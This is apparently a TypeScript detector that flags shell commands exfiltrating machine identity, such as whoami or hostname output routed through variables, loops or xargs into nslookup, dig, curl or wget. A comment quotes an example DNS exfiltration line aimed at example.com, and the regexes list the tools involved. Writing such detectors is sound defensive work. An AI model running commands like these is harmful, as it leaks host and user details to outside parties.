/** Programs that say who and where the machine is. */
const TELLS =
  /(?:^|[\s;&|(\x60])(?:(?:whoami|hostname|ifconfig|ipconfig)(?=$|[\s;&|)\x60])|(?:print)?env(?=\s*(?:$|[|;&)>\x60])))/;
/** A variable that takes what commands print: `a=$(whoami)`. */
const ASSIGNED = /(?:^|[\s;&|(])(\w{1,40})=["']?(?:\$\(([^)]{1,400})\)|\x60([^\x60]{1,400})\x60)/g;
/** A loop over what commands print: `for a in $(hostname)`. */
const LOOPED = /\bfor\s+(\w{1,40})\s+in\s+["']?\$\(([^)]{1,400})\)/g;
/** A pipe into a loop or a program that takes each line as an argument. */
const PIPED =
  /(^|[;&|(]\s*)([^;&|\n]{1,400})((?:\|[^;&|\n]{1,200}){0,4})\|\s*(?:while\s+read\s+(?:-r\s+)?(\w{1,40})|xargs\s[^|;&\n]{0,60}?-I\s*(\S{1,10}))/g;
const LONGEST = 2000;

/**
 * Returns the program by which a command line sends names of the machine that went through variables, loops or `xargs`, such
 * as `nslookup` in `a=$(whoami); nslookup $a.example.com`.
 */
export function sentVariable(line: string): string | undefined {
  const text = line.slice(0, LONGEST);
  if (!TELLS.test(text)) return undefined;
  const names = new Set<string>();
  for (const [, name, inner, quoted] of text.matchAll(ASSIGNED))
    if (TELLS.test(inner ?? quoted ?? '')) names.add(`$${name}`);
  for (const [, name, inner] of text.matchAll(LOOPED)) if (TELLS.test(inner ?? '')) names.add(`$${name}`);
  for (const [, , source = '', , name, placeholder] of text.matchAll(PIPED))
    if (TELLS.test(source) || [...names].some((one) => uses(source, one)))
      names.add(placeholder ?? `$${name}`);
  for (const name of names) {
    const program = senderOf(text, name);
    if (program !== undefined) return program;
  }
  return undefined;
}

function uses(text: string, name: string): boolean {
  return new RegExp(`${patternOf(name)}(?!\\w)`).test(text);
}

/** Names asked for below a domain, and data in requests. The machine's own name is also a host to reach it by. */
function senderOf(text: string, name: string): string | undefined {
  const variable = patternOf(name);
  return (
    new RegExp(
      String.raw`\b(nslookup|dig|host|ping)\s[^|;&\n]{0,100}?${variable}["']?\.[\w.-]{0,100}[a-z]`,
    ).exec(text)?.[1] ??
    new RegExp(
      String.raw`\b(curl|wget)\s[^|;\n]{0,300}?(?:(?:-d|--data[\w-]*|-F|--form|--post-data)[\s=]*["']?[^\s"']{0,100}|://[^\s"'$]{1,200})${variable}(?!\w)`,
    ).exec(text)?.[1]
  );
}

/** Returns the pattern of a name, with or without braces if it is that of a variable. */
function patternOf(name: string): string {
  return name.startsWith('$')
    ? String.raw`\$\{?${name.slice(1)}\}?`
    : name.replace(/[^\w]/g, String.raw`\$&`);
}
